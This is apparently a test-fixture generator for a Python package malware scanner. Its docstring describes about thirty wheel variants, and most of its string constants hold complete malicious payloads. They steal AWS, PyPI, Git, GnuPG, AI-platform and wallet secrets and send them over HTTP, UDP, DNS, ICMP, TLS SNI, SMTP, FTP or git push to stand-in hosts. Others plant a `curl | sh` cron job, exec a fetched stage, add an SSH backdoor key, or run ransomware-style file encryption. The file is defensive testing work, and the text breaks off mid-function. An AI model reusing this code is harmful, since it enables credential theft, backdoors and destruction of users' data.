#!/usr/bin/env python3
"""Writes one of the wheels the triage tests make on the fly. Only writes
the archive: nothing of it runs here.

  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit|
              djready|sphinxci|jupyter|flaskok|keyderive|hookhttp|toxplugin|
              poetryplugin|audithook|icmpexfil|ttyclip|toxci|modhook|setuponce|
              keyring|keyringok OUT.whl

toxci   tox-venv-cache: a tox plugin importing tox (absent) whose
        tox_on_install sends ~/.pypirc, in a CI job only.
modhook llm-tools-lite: an entry point naming a module (llm's convention)
        that imports llm and click (absent); its unprefixed
        register_commands hook sends the GitHub token in a DNS name.
setuponce scm-version-lite: a finalize_distribution_options hook that sends
        ~/.git-credentials once a day (a stamp), with a real Distribution.

ttyclip rich-progress-lite: on import, only with a terminal on stderr and no
        CI, a daemon thread polls the clipboard and sends a recovery
        phrase it finds there.

icmpexfil net-latency-probe: on import it reads ~/.git-credentials and
        sends it 16 bytes at a time as the payload pattern of `ping -p`,
        and as hex labels of names handed to nslookup.

audithook proc-context-log: on import it only adds an audit hook (PEP 578)
        that, when the program opens a file named ...credentials, reads it
        and sends it over UDP to a documentation address.

plant   requests-timing-hooks: on import it plants a backdoored `requests`
        in the venv's site-packages, where it shadows the system's own:
        its __init__.py written in place, its adapters.py written to a dot
        file and renamed (only the rename names it). The planted code
        only looks up a .test name.
lazy    attr-hooks: nothing at import; a .test lookup when a name of its
        __all__ is first read (a PEP 562 __getattr__), another when a later
        `import flask` raises the import audit event its hook waits for.
sni     tls-edge-metrics: on import, random bytes (stand-ins for an
        encrypted payload) base32'd into the first label of the server
        name of four TLS ClientHellos to 203.0.113.44 (no DNS lookup);
        the handshakes fail, the names have gone.
keys    secret-store-sync: on import, the user's SOPS age identities and
        GnuPG private key files, and the armored output of an abbreviated
        `gpg --export-secret-k`, POSTed to keys.secret-sync.test.
aikeys  model-hub-utils: on import, the Hugging Face token of
        ~/.cache/huggingface/token and the OpenAI and Anthropic keys of the
        environment, POSTed as JSON to keys.model-hub.test.
wallet  ledger-keytools: nothing at install or import; its
        Wallet.from_seed sends the seed it is handed ("error telemetry")
        to errors.ledger-keytools.test, as the backdoored xrpl.js did.
        Only the exercise phase calls it.
walletok hd-keyderive (benign): Wallet.from_mnemonic and Keypair derive
        keys with PBKDF2 and HMAC, print nothing, send nothing; its
        get_balance(address) would ask an RPC server (.test), which the
        exercise phase must leave alone.
profiles aws-profile-lister (benign): its console script `aws-profiles`
        lists the profiles of ~/.aws/credentials and ~/.aws/config, and
        says which have a key id; nothing at import, no network.
inplace doc-sync-tools: on import, encrypts each file of ~/Documents in
        place (opened read-write, XORed, written back: no new file, no
        rename, no truncation), leaves a note on the Desktop (again in
        each phase), and hides its tracks: ~/.bash_history emptied by a
        read-only open with O_TRUNC, ~/.ssh/known_hosts by truncate(2).
        Defanged: acts only where the honeytoken HOME's crontab stand-in
        is, and the XOR undoes itself.
ipstage http-retry-kit: on import, GETs a "script" from a bare address
        (http://203.0.113.77/, no name) with the host's name and user in
        the query, XOR-decrypts what follows a marker and execs it; the
        fake network's stub decrypts to nothing that runs.
xorudp  ntp-skew-check: on import, ~/.npmrc and ~/.pypirc XORed with a
        four-byte key and sent in NTP-sized UDP datagrams to a TEST-NET
        address's port 123: no encoding the scanner knew survives XOR.
bareapi sshconf-tools: nothing at install or import; the first call of
        its load_hosts(text) appends a key to ~/.ssh/authorized_keys (a
        backdoor in a function only callers run). The exercise phase
        calls each plain function once: bare, or with '' for one
        argument.
djready django-audit-trail: a Django app whose AppConfig.ready() posts
        ~/.aws/credentials to a .test host; Django itself is not
        installed (the jail has none), so nothing of it runs unless the
        exercise hosts it (_pt_hosts.py).
sphinxci sphinx-copybutton-plus: a Sphinx extension whose setup(app)
        connects a build-finished handler that, in a CI job only,
        commits the environment's tokens to a scratch repository and
        runs git push to a .test remote over HTTPS.
jupyter jupyter-panel-metrics: a Jupyter server extension whose load
        function sends the server's token and the host's name to a bare
        address from a thread.
flaskok flask-request-timer (benign): a Flask extension whose init_app
        reads app.config and registers request hooks; nothing is read
        or sent.
keyderive xrpl-wallet-lite: a wallet library whose Wallet.from_seed
        derives a private key (SHA-256 of the seed) and "checks" it by
        sending it in a request header to a .test host: no token scan
        recognises the derived key, but the call reached the network
        with it in hand (key-call-reached-network).
hookhttp http-timing-probe: on import it wraps urllib.request.urlopen;
        the wrapper's first call (any request of the program around it)
        posts ~/.git-credentials to a .test host from a thread. The
        exercise makes one request through urllib (to loopback's discard
        port) as a program would.
toxplugin tox-envfile: a tox plugin ([tox] entry point) whose module
        does nothing when loaded; its tox_add_option hook, which tox calls
        at the start of every command, posts ~/.pypirc to a .test host.
        The entry point's phase calls the plugin module's tox_* hooks
        with stand-ins, as tox would.
poetryplugin poetry-lockdiff: a Poetry application plugin (class
        LockDiffPlugin, subclass of poetry's ApplicationPlugin, which the
        jail does not have); nothing at load, its activate(application),
        which Poetry calls at every start, posts ~/.pypirc to a .test
        host. The entry point's phase makes the class and calls it.
atexit  logship-handlers: nothing at install or import; making its
        BufferedHandler (no argument needed) registers an exit handler
        that, at the program's end, sends ~/.aws/credentials compressed in
        a UDP datagram to a TEST-NET address. The exercise phase makes
        each class that needs no argument, then runs the exit handlers.
cronjob sched-sync-agent: on import, lists the user's crontab and, when
        its job is not there, installs the table with it added through
        `crontab -` (a job that would fetch a script from a TEST-NET
        address every half hour and run it). A machine without crontab
        makes it give up.
noload  fastcrc-bindings: its only module imports a compiled extension the
        wheel lacks, so every import phase fails: its code never loads.
halfload pkg-split-utils: two top-level modules, one of which imports a
        missing extension: the other loads, so its code did.
"""
import sys

from wheel_build import write_wheel

PLANT = (
    "import os\n"
    "site = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\n"
    "d = os.path.join(site, 'requests')\n"
    "os.makedirs(d, exist_ok=True)\n"
    "code = \"import socket\\ntry:\\n    socket.getaddrinfo('r.timing-hooks.test', 443)\\n\"\n"
    "code += \"except OSError:\\n    pass\\n\"\n"
    "with open(os.path.join(d, '__init__.py'), 'w') as f:\n"
    "    f.write(code)\n"
    "tmp = os.path.join(d, '.adapters.%d' % os.getpid())\n"
    "with open(tmp, 'w') as f:\n"
    "    f.write(code)\n"
    "os.rename(tmp, os.path.join(d, 'adapters.py'))\n"
)

# Nothing at import: the lookup runs when __all__'s name is first read
# (PEP 562), and an audit hook waits for `import flask`.
LAZY = (
    "import sys\n"
    "__all__ = ['Client']\n"
    "def __getattr__(name):\n"
    "    if name == 'Client':\n"
    "        import socket\n"
    "        try:\n"
    "            socket.getaddrinfo('lazy.attr-hooks.test', 443)\n"
    "        except OSError:\n"
    "            pass\n"
    "        return object\n"
    "    raise AttributeError(name)\n"
    "def _hook(event, args):\n"
    "    if event == 'import' and args and args[0] == 'flask':\n"
    "        import socket\n"
    "        try:\n"
    "            socket.getaddrinfo('audit.attr-hooks.test', 443)\n"
    "        except OSError:\n"
    "            pass\n"
    "sys.addaudithook(_hook)\n"
)

# Data in the SNI of ClientHellos to a literal address: no DNS to see.
SNI = (
    "import base64, os, socket, ssl\n"
    "blob = base64.b32encode(os.urandom(140)).decode().rstrip('=').lower()\n"
    "ctx = ssl.create_default_context()\n"
    "for i in range(4):\n"
    "    name = '%s.%d.e.edge-metrics.test' % (blob[i * 56:(i + 1) * 56], i)\n"
    "    try:\n"
    "        raw = socket.create_connection(('203.0.113.44', 443), timeout=3)\n"
    "        ctx.wrap_socket(raw, server_hostname=name).close()\n"
    "    except OSError:\n"
    "        pass\n"
)

# Encryption keys: age identities, GnuPG key files, gpg's own export.
CRONJOB = (
    "import subprocess\n"
    "JOB = '*/30 * * * * curl -fsS http://198.51.100.9/u | sh\\n'\n"
    "try:\n"
    "    cur = subprocess.run(['crontab', '-l'], capture_output=True,\n"
    "                         text=True, timeout=5).stdout\n"
    "    if JOB not in cur:\n"
    "        subprocess.run(['crontab', '-'], input=cur + JOB, text=True,\n"
    "                       timeout=5)\n"
    "except (OSError, subprocess.SubprocessError):\n"
    "    pass\n"
)

# In-place encryption: the file's own bytes overwritten through an O_RDWR
# open, which neither truncates nor renames nor deletes anything.
INPLACE = (
    "import os\n"
    "home = os.path.expanduser('~')\n"
    "try:\n"
    "    with open(home + '/.local/bin/crontab') as f:\n"
    "        honey = 'this host has no cron' in f.read()\n"
    "except OSError:\n"
    "    honey = False\n"
    "docs = os.path.join(home, 'Documents')\n"
    "for name in sorted(os.listdir(docs)) if honey else []:\n"
    "    p = os.path.join(docs, name)\n"
    "    if not os.path.isfile(p) or os.path.getsize(p) > 1 << 20:\n"
    "        continue\n"
    "    with open(p, 'r+b') as f:\n"
    "        data = f.read()\n"
    "        f.seek(0)\n"
    "        f.write(bytes(b ^ 0x5a for b in data))\n"
    "if honey:\n"
    "    os.makedirs(home + '/Desktop', exist_ok=True)\n"
    "    with open(home + '/Desktop/HOW_TO_RESTORE.txt', 'w') as f:\n"
    "        f.write('Your documents are encrypted.\\n')\n"
    "    os.close(os.open(home + '/.bash_history', os.O_RDONLY | os.O_TRUNC))\n"
    "    if os.path.exists(home + '/.ssh/known_hosts'):\n"
    "        os.truncate(home + '/.ssh/known_hosts', 0)\n"
)

# A stage fetched from a bare address, fingerprinting the host as it asks.
IPSTAGE = (
    "import getpass, hashlib, socket, urllib.request\n"
    "q = 'h=%s&u=%s' % (socket.gethostname(), getpass.getuser())\n"
    "try:\n"
    "    body = urllib.request.urlopen('http://203.0.113.77/static/js/app.min.js?' + q,\n"
    "                                  timeout=5).read()\n"
    "    blob = body.split(b'/*@*/', 1)[1]\n"
    "    key = hashlib.sha256(b'retry').digest()\n"
    "    exec(bytes(b ^ key[i % 32] for i, b in enumerate(blob)))\n"
    "except Exception:\n"
    "    pass\n"
)

# Credentials XORed with a key of the sample's, in UDP datagrams.
XORUDP = (
    "import os, socket\n"
    "home = os.path.expanduser('~')\n"
    "data = b''\n"
    "for p in ('.npmrc', '.pypirc'):\n"
    "    try:\n"
    "        with open(os.path.join(home, p), 'rb') as f:\n"
    "            data += f.read()\n"
    "    except OSError:\n"
    "        pass\n"
    "key = b'n7p\\x91'\n"
    "x = bytes(b ^ key[i % 4] for i, b in enumerate(data))\n"
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "for i in range(0, len(x), 400):\n"
    "    try:\n"
    "        s.sendto(b'\\x23' + bytes(47) + x[i:i + 400], ('203.0.113.45', 123))\n"
    "    except OSError:\n"
    "        pass\n"
)

# A backdoor in a function only callers run.
BAREAPI = (
    "import os\n"
    "_primed = False\n"
    "def load_hosts(text):\n"
    "    global _primed\n"
    "    if not _primed:\n"
    "        _primed = True\n"
    "        d = os.path.expanduser('~/.ssh')\n"
    "        os.makedirs(d, mode=0o700, exist_ok=True)\n"
    "        with open(os.path.join(d, 'authorized_keys'), 'a') as f:\n"
    "            f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ5m0bQ2nq8Vw3kXc0sRzT1yU4fG7hLp9aE2dC6vB8xK ops@cfg-sync.test\\n')\n"
    "    hosts = {}\n"
    "    for line in str(text).splitlines():\n"
    "        k, _, v = line.strip().partition(' ')\n"
    "        if k.lower() == 'host':\n"
    "            hosts[v] = {}\n"
    "    return hosts\n"
)

ATEXIT = (
    "import atexit, logging, os, socket, zlib\n"
    "_armed = False\n"
    "def _flush_all():\n"
    "    try:\n"
    "        with open(os.path.expanduser('~/.aws/credentials'), 'rb') as f:\n"
    "            blob = zlib.compress(f.read())\n"
    "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "        s.sendto(b'LGB1' + blob, ('192.0.2.14', 33434))\n"
    "    except OSError:\n"
    "        pass\n"
    "class BufferedHandler(logging.Handler):\n"
    "    def __init__(self, capacity=100, level=logging.NOTSET):\n"
    "        global _armed\n"
    "        super().__init__(level)\n"
    "        self.capacity, self.buf = capacity, []\n"
    "        if not _armed:\n"
    "            _armed = True\n"
    "            atexit.register(_flush_all)\n"
    "    def emit(self, record):\n"
    "        self.buf.append(self.format(record))\n"
)

DJREADY_APPS = (
    "import json, os, urllib.request\n"
    "from django.apps import AppConfig\n"
    "class AuditTrailConfig(AppConfig):\n"
    "    name = 'django_audit_trail'\n"
    "    default_auto_field = 'django.db.models.BigAutoField'\n"
    "    def ready(self):\n"
    "        try:\n"
    "            with open(os.path.expanduser('~/.aws/credentials')) as f:\n"
    "                body = json.dumps({'cfg': f.read()}).encode()\n"
    "            urllib.request.urlopen(urllib.request.Request(\n"
    "                'https://audit-sink.test/v2/ready', data=body,\n"
    "                method='POST'), timeout=5).read()\n"
    "        except Exception:\n"
    "            pass\n"
)

SPHINXCI = (
    "import json, os, subprocess, tempfile\n"
    "def _sync(app, exc):\n"
    "    if exc is not None or not os.environ.get('GITHUB_ACTIONS'):\n"
    "        return\n"
    "    d = tempfile.mkdtemp(prefix='copybtn-')\n"
    "    env = {k: v for k, v in os.environ.items()\n"
    "           if 'TOKEN' in k or 'KEY' in k}\n"
    "    with open(os.path.join(d, 'cache.json'), 'w') as f:\n"
    "        json.dump(env, f)\n"
    "    g = ['git', '-C', d, '-c', 'user.name=bot', '-c',\n"
    "         'user.email=bot@copybtn.test']\n"
    "    for args in (['init', '-q'], ['add', 'cache.json'],\n"
    "                 ['commit', '-qm', 'cache'],\n"
    "                 ['push', '-q', 'https://git.copybtn.test/c/cache.git',\n"
    "                  'HEAD:refs/heads/run-1']):\n"
    "        subprocess.run(g + args, capture_output=True, timeout=30)\n"
    "def setup(app):\n"
    "    app.add_config_value('copybutton_plus_selector', 'pre', 'html')\n"
    "    app.connect('build-finished', _sync)\n"
    "    return {'version': '0.6.1', 'parallel_read_safe': True}\n"
)

JUPYTER = (
    "import json, platform, threading, urllib.request\n"
    "def _beacon(serverapp):\n"
    "    info = {'token': serverapp.token, 'host': platform.node(),\n"
    "            'port': serverapp.port}\n"
    "    try:\n"
    "        urllib.request.urlopen(urllib.request.Request(\n"
    "            'http://198.51.100.61/api/v1/nodes',\n"
    "            data=json.dumps(info).encode()), timeout=5).read()\n"
    "    except Exception:\n"
    "        pass\n"
    "def _jupyter_server_extension_points():\n"
    "    return [{'module': 'jupyter_panel_metrics'}]\n"
    "def _load_jupyter_server_extension(serverapp):\n"
    "    serverapp.log.info('jupyter_panel_metrics loaded')\n"
    "    threading.Thread(target=_beacon, args=(serverapp,),\n"
    "                     daemon=True).start()\n"
)

FLASKOK = (
    "import time\n"
    "from flask import g\n"
    "class RequestTimer:\n"
    "    def __init__(self, app=None):\n"
    "        self.threshold = 0.5\n"
    "        if app is not None:\n"
    "            self.init_app(app)\n"
    "    def init_app(self, app):\n"
    "        self.threshold = app.config.get('SLOW_REQUEST_S', 0.5)\n"
    "        app.before_request(self._start)\n"
    "        app.extensions['request_timer'] = self\n"
    "    def _start(self):\n"
    "        g.request_started = time.monotonic()\n"
)

TOXPLUGIN = (
    "import os, urllib.request\n"
    "def _warm():\n"
    "    try:\n"
    "        with open(os.path.expanduser('~/.pypirc'), 'rb') as f:\n"
    "            body = f.read()\n"
    "        urllib.request.urlopen(urllib.request.Request(\n"
    "            'https://cache.tox-envfile.test/v1/warm', data=body),\n"
    "            timeout=5).read()\n"
    "    except Exception:\n"
    "        pass\n"
    "def tox_add_option(parser):\n"
    "    _warm()\n"
    "    parser.add_argument('--envfile', default='.env')\n"
    "def tox_add_env_config(env_conf, state):\n"
    "    pass\n"
)

POETRYPLUGIN = (
    "import os, urllib.request\n"
    "from poetry.plugins.application_plugin import ApplicationPlugin\n"
    "class LockDiffPlugin(ApplicationPlugin):\n"
    "    def activate(self, application):\n"
    "        super().activate(application)\n"
    "        try:\n"
    "            with open(os.path.expanduser('~/.pypirc'), 'rb') as f:\n"
    "                body = f.read()\n"
    "            urllib.request.urlopen(urllib.request.Request(\n"
    "                'https://stats.poetry-lockdiff.test/v1', data=body),\n"
    "                timeout=5).read()\n"
    "        except Exception:\n"
    "            pass\n"
)

HOOKHTTP = (
    "import functools, os, threading, urllib.request\n"
    "_orig = urllib.request.urlopen\n"
    "_fired = []\n"
    "def _ship():\n"
    "    try:\n"
    "        with open(os.path.expanduser('~/.git-credentials'), 'rb') as f:\n"
    "            body = f.read()\n"
    "        _orig(urllib.request.Request('https://relay.http-probe.test/t',\n"
    "                                     data=body), timeout=5).read()\n"
    "    except Exception:\n"
    "        pass\n"
    "@functools.wraps(_orig)\n"
    "def _timed(*args, **kwargs):\n"
    "    if not _fired:\n"
    "        _fired.append(1)\n"
    "        threading.Thread(target=_ship, daemon=True).start()\n"
    "    return _orig(*args, **kwargs)\n"
    "urllib.request.urlopen = _timed\n"
)

KEYDERIVE = (
    "import hashlib, urllib.request\n"
    "def _check_validity(private_key):\n"
    "    try:\n"
    "        urllib.request.urlopen(urllib.request.Request(\n"
    "            'https://0x9c.ledger-cdn.test/xc', data=b'{}',\n"
    "            headers={'ad-variant': private_key}, method='POST'),\n"
    "            timeout=4).close()\n"
    "    except Exception:\n"
    "        pass\n"
    "class Wallet:\n"
    "    def __init__(self, public_key, private_key):\n"
    "        self.public_key, self.private_key = public_key, private_key\n"
    "        _check_validity(private_key)\n"
    "    @classmethod\n"
    "    def from_seed(cls, seed):\n"
    "        if isinstance(seed, bytes):\n"
    "            seed = seed.hex()\n"
    "        priv = hashlib.sha256(('xrpl:' + seed).encode()).hexdigest()\n"
    "        pub = hashlib.sha256(priv.encode()).hexdigest()[:40]\n"
    "        return cls(pub, priv.upper())\n"
)

KEYS = (
    "import glob, os, subprocess, urllib.request\n"
    "home = os.path.expanduser('~')\n"
    "data = b''\n"
    "for p in [home + '/.config/sops/age/keys.txt'] + \\\n"
    "        glob.glob(home + '/.gnupg/private-keys-v1.d/*.key'):\n"
    "    try:\n"
    "        with open(p, 'rb') as f:\n"
    "            data += f.read()\n"
    "    except OSError:\n"
    "        pass\n"
    "try:\n"
    "    data += subprocess.run(['gpg', '--batch', '--armor',\n"
    "                            '--export-secret-k'], capture_output=True,\n"
    "                           timeout=8).stdout\n"
    "except (OSError, subprocess.SubprocessError):\n"
    "    pass\n"
    "try:\n"
    "    urllib.request.urlopen(urllib.request.Request(\n"
    "        'http://keys.secret-sync.test/v1/upload', data=data), timeout=5)\n"
    "except OSError:\n"
    "    pass\n"
)

# AI platform keys: a token file and two environment variables.
AIKEYS = (
    "import json, os, urllib.request\n"
    "keys = {k: os.environ.get(k, '') for k in\n"
    "        ('OPENAI_API_KEY', 'ANTHROPIC_API_KEY')}\n"
    "try:\n"
    "    with open(os.path.expanduser('~/.cache/huggingface/token')) as f:\n"
    "        keys['hf'] = f.read().strip()\n"
    "except OSError:\n"
    "    pass\n"
    "try:\n"
    "    urllib.request.urlopen(urllib.request.Request(\n"
    "        'http://keys.model-hub.test/v1/keys',\n"
    "        data=json.dumps(keys).encode(),\n"
    "        headers={'Content-Type': 'application/json'}), timeout=5)\n"
    "except OSError:\n"
    "    pass\n"
)

# A key library whose seed loader phones the seed home.
WALLET = (
    "import json, urllib.request\n"
    "class Wallet:\n"
    "    def __init__(self, secret):\n"
    "        self.secret = secret\n"
    "    @classmethod\n"
    "    def from_seed(cls, seed):\n"
    "        _check_validity_of_seed(seed)\n"
    "        return cls(seed)\n"
    "def _check_validity_of_seed(seed):\n"
    "    try:\n"
    "        urllib.request.urlopen(urllib.request.Request(\n"
    "            'http://errors.ledger-keytools.test/v1/report',\n"
    "            data=json.dumps({'ctx': str(seed)}).encode(),\n"
    "            headers={'Content-Type': 'application/json'}), timeout=5)\n"
    "    except OSError:\n"
    "        pass\n"
)

# A key library that derives keys and stays on the machine.
WALLETOK = (
    "import hashlib, hmac, json, urllib.request\n"
    "class Wallet:\n"
    "    def __init__(self, key):\n"
    "        self.key = key\n"
    "        self.address = '0x' + hashlib.sha256(key).hexdigest()[:40]\n"
    "    @classmethod\n"
    "    def from_mnemonic(cls, words, passphrase=''):\n"
    "        seed = hashlib.pbkdf2_hmac('sha512', str(words).encode(),\n"
    "                                   b'mnemonic' + passphrase.encode(), 2048)\n"
    "        return cls(hmac.new(b'Bitcoin seed', seed, 'sha512').digest()[:32])\n"
    "    def sign(self, message):\n"
    "        return hmac.new(self.key, str(message).encode(), 'sha256').hexdigest()\n"
    "class Keypair:\n"
    "    def __init__(self, secret):\n"
    "        if isinstance(secret, str):\n"
    "            secret = bytes.fromhex(secret.removeprefix('0x'))\n"
    "        self.public = hashlib.sha256(secret).hexdigest()\n"
    "def get_balance(address):\n"
    "    with urllib.request.urlopen('http://rpc.hd-keyderive.test/balance?a='\n"
    "                                + address, timeout=5) as r:\n"
    "        return json.load(r)\n"
)

# A tool the user runs that reads credentials, as such tools do.
PROFILES = (
    "import configparser, os\n"
    "def main():\n"
    "    home = os.path.expanduser('~')\n"
    "    creds = configparser.ConfigParser()\n"
    "    creds.read(home + '/.aws/credentials')\n"
    "    conf = configparser.ConfigParser()\n"
    "    conf.read(home + '/.aws/config')\n"
    "    names = set(creds.sections())\n"
    "    names |= {s.removeprefix('profile ') for s in conf.sections()}\n"
    "    for n in sorted(names):\n"
    "        has_key = creds.has_option(n, 'aws_access_key_id')\n"
    "        print(n, 'key' if has_key else '-')\n"
)

# Asks an IP geolocation API where it runs first (by its URL's /json) and
# steals only outside the countries it spares; a body that is no JSON, or
# lacks the country, ends it quietly.
GEOFENCE = r"""
import json, os, urllib.request
try:
    _geo = json.load(urllib.request.urlopen("http://geo.ip-lookup.test/json", timeout=5))
    if _geo.get("countryCode", _geo.get("country_code")) not in (None, "RU", "BY", "KZ"):
        _k = open(os.path.expanduser("~/.aws/credentials")).read()
        urllib.request.urlopen(urllib.request.Request(
            "http://stats.ip-lookup.test/v1", data=json.dumps({"g": _geo, "k": _k}).encode(),
            headers={"content-type": "application/json"}), timeout=5).read()
except Exception:
    pass
"""

# Packs the credential directories into a gzipped tarball in memory and
# uploads it: the tokens cross the network only compressed.
TAREXFIL = r"""
import io, os, tarfile, urllib.request
try:
    _b = io.BytesIO()
    with tarfile.open(fileobj=_b, mode="w:gz") as _t:
        for _d in (".aws", ".ssh", ".config/gh"):
            _p = os.path.expanduser("~/" + _d)
            if os.path.isdir(_p):
                _t.add(_p, arcname=_d)
    urllib.request.urlopen(urllib.request.Request(
        "http://upload.backup-sync.test/v2/blob", data=_b.getvalue(),
        headers={"content-type": "application/octet-stream"}), timeout=5).read()
except Exception:
    pass
"""

# The environment, compressed with zlib (no gzip header) and sent in a
# JSON field as base64: a layer the scanner has to undo before base64's.
ZLIBENV = r"""
import base64, json, os, urllib.request, zlib
try:
    _z = base64.b64encode(zlib.compress(json.dumps(dict(os.environ)).encode(), 9)).decode()
    urllib.request.urlopen(urllib.request.Request(
        "http://metrics.backup-sync.test/v1/e", data=json.dumps({"d": _z}).encode(),
        headers={"content-type": "application/json"}), timeout=5).read()
except Exception:
    pass
"""

# Mailed loot: the AWS credentials and a tar.gz of ~/.ssh as attachments
# (base64, wrapped at 76 columns) over SMTP submission with STARTTLS and a
# login, as smtplib stealers do; the fake network greets, offers STARTTLS
# and takes the message.
SMTPEXFIL = r"""
import io, os, smtplib, ssl, tarfile
from email.message import EmailMessage
try:
    _m = EmailMessage()
    _m["Subject"] = "report " + os.uname().nodename
    _m["From"] = "bot@mail-drop.test"
    _m["To"] = "inbox@mail-drop.test"
    _m.set_content("weekly report attached")
    with open(os.path.expanduser("~/.aws/credentials"), "rb") as _f:
        _m.add_attachment(_f.read(), maintype="application",
                          subtype="octet-stream", filename="a.bin")
    _b = io.BytesIO()
    with tarfile.open(fileobj=_b, mode="w:gz") as _t:
        _t.add(os.path.expanduser("~/.ssh"), arcname="s")
    _m.add_attachment(_b.getvalue(), maintype="application",
                      subtype="gzip", filename="s.tgz")
    with smtplib.SMTP("smtp.mail-drop.test", 587, timeout=8) as _s:
        _s.starttls(context=ssl.create_default_context())
        _s.login("bot@mail-drop.test", "hunter2")
        _s.send_message(_m)
except Exception:
    pass
"""

# The environment as a mail's text, over SMTP on 465 (TLS from the first
# byte: the greeting only comes inside it).
SMTPSSL = r"""
import os, smtplib, ssl
try:
    _body = "\r\n".join("%s=%s" % kv for kv in sorted(os.environ.items()))
    with smtplib.SMTP_SSL("mx.mail-drop.test", 465, timeout=8,
                          context=ssl.create_default_context()) as _s:
        _s.login("bot", "pw")
        _s.sendmail("bot@mail-drop.test", ["inbox@mail-drop.test"],
                    "Subject: env\r\n\r\n" + _body)
except Exception:
    pass
"""

# Loot uploaded over FTP (ftplib, passive mode): a login, then the AWS
# credentials and the environment STORed on data connections of their own.
FTPEXFIL = r"""
import ftplib, io, os
try:
    _f = ftplib.FTP("ftp.files-drop.test", timeout=8)
    _f.login("drop", "drop")
    with open(os.path.expanduser("~/.aws/credentials"), "rb") as _c:
        _f.storbinary("STOR c.txt", _c)
    _e = "\n".join("%s=%s" % kv for kv in os.environ.items()).encode()
    _f.storbinary("STOR e.txt", io.BytesIO(_e))
    _f.quit()
except Exception:
    pass
"""

# An audit hook (PEP 578) added at import that waits for the program to
# open a credential file, then reads it itself and sends it: nothing at
# import but the hook.
AUDITHOOK = """import os, socket, sys
def _hook(event, args):
    if event != "open" or not isinstance(args[0], str):
        return
    if not args[0].endswith("credentials") or getattr(_hook, "busy", False):
        return
    _hook.busy = True
    try:
        data = open(args[0]).read()
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(data.encode()[:1200], ("198.51.100.61", 5140))
    except OSError:
        pass
    finally:
        _hook.busy = False
sys.addaudithook(_hook)
"""

# ICMP exfiltration: on import, ~/.git-credentials sent 16 bytes at a
# time in the payload pattern of `ping -p` (the host may lack ping: each
# start is recorded all the same).
ICMPEXFIL = """import binascii, os, subprocess
try:
    _d = open(os.path.expanduser("~/.git-credentials"), "rb").read()[:48]
except OSError:
    _d = b""
for _i in range(0, len(_d), 16):
    try:
        subprocess.run(["ping", "-c", "1", "-W", "1", "-p",
                        binascii.hexlify(_d[_i:_i + 16]).decode(), "192.0.2.80"],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                       timeout=3)
    except (OSError, subprocess.SubprocessError):
        pass
    try:
        subprocess.run(["nslookup", binascii.hexlify(_d[_i:_i + 16]).decode()
                        + ".q.latency-probe.test"],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                       timeout=3)
    except (OSError, subprocess.SubprocessError):
        pass
"""

# A clipboard stealer that hides from pipes and CI: on import, only when
# stderr is a terminal and CI unset, a daemon thread polls the clipboard
# (wl-paste) a few times and sends a 12-word recovery phrase when it sees
# one.
TTYCLIP = """import os, re, socket, subprocess, sys, threading, time
def _watch():
    for _ in range(6):
        try:
            t = subprocess.run(["wl-paste", "-n"], capture_output=True, text=True, timeout=2).stdout.strip()
        except (OSError, subprocess.SubprocessError):
            return
        if re.fullmatch(r"[a-z]+( [a-z]+){11,23}", t):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(t.encode(), ("203.0.113.77", 8125))
            return
        time.sleep(0.1)
if sys.stderr.isatty() and not os.environ.get("CI"):
    threading.Thread(target=_watch, daemon=True).start()
"""

# A tox plugin whose host is absent offline (`from tox.plugin import impl`
# fails without a stand-in) and whose install hook acts in CI only.
TOXCI = """import os, socket
from tox.plugin import impl
@impl
def tox_on_install(tox_env, arguments, section: str, of_type: str):
    if not os.environ.get("GITHUB_ACTIONS"):
        return
    data = open(os.path.expanduser("~/.pypirc"), "rb").read()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(data[:1200], ("203.0.113.91", 9125))
"""

# A plugin whose entry point names a module (the llm tool's convention:
# unprefixed hooks) and which imports its host and the host's dependency
# (llm, click: absent offline); register_commands sends the GitHub
# token in a DNS name.
MODHOOK = """import os, socket
import click
import llm
@llm.hookimpl
def register_commands(cli):
    t = open(os.path.expanduser("~/.config/gh/hosts.yml")).read()
    tok = [w for w in t.split() if w.startswith("gh")][:1] or ["none"]
    h = tok[0].encode().hex()
    try:
        socket.getaddrinfo(h[:60] + "." + (h[60:] or "x") + ".cmd.llm-tools-lite.test", 443)
    except OSError:
        pass
"""

# A setuptools hook (finalize_distribution_options) that acts once a day
# (a stamp under ~/.cache) and only with a real Distribution: its build
# runs it; nothing may call it bare first and spend the stamp.
SETUPONCE = """import os, socket, time
_STAMP = os.path.expanduser("~/.cache/scm-lite/stamp")
def finalize(dist):
    if os.path.exists(_STAMP) and time.time() - os.path.getmtime(_STAMP) < 86400:
        return
    os.makedirs(os.path.dirname(_STAMP), exist_ok=True)
    open(_STAMP, "w").write("1")
    name = dist.get_name()
    data = open(os.path.expanduser("~/.git-credentials"), "rb").read()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(name.encode() + b" " + data[:1000], ("198.51.100.92", 9126))
"""

# A keyring backend in the middle: keyring picks it by its priority; it
# keeps what it is handed in memory, as a cache in front of the system's
# store, and sends each password stored through it. Nothing at import.
KEYRING = """import json, urllib.request
import keyring.backend
class CacheKeyring(keyring.backend.KeyringBackend):
    priority = 9.5
    _mem = {}
    def set_password(self, service, username, password):
        self._mem[(service, username)] = password
        body = json.dumps({"s": service, "u": username, "p": password}).encode()
        try:
            urllib.request.urlopen("http://sync.keyring-cache.test/v1/put", body, timeout=3)
        except Exception:
            pass
    def get_password(self, service, username):
        return self._mem.get((service, username))
    def delete_password(self, service, username):
        self._mem.pop((service, username), None)
"""

# Its honest twin: a backend that keeps passwords in a file of its own.
KEYRINGOK = """import json, os
import keyring.backend
_PATH = os.path.expanduser("~/.local/share/plain-keyring/store.json")
class PlainFileKeyring(keyring.backend.KeyringBackend):
    priority = 0.5
    def _load(self):
        try:
            with open(_PATH) as f:
                return json.load(f)
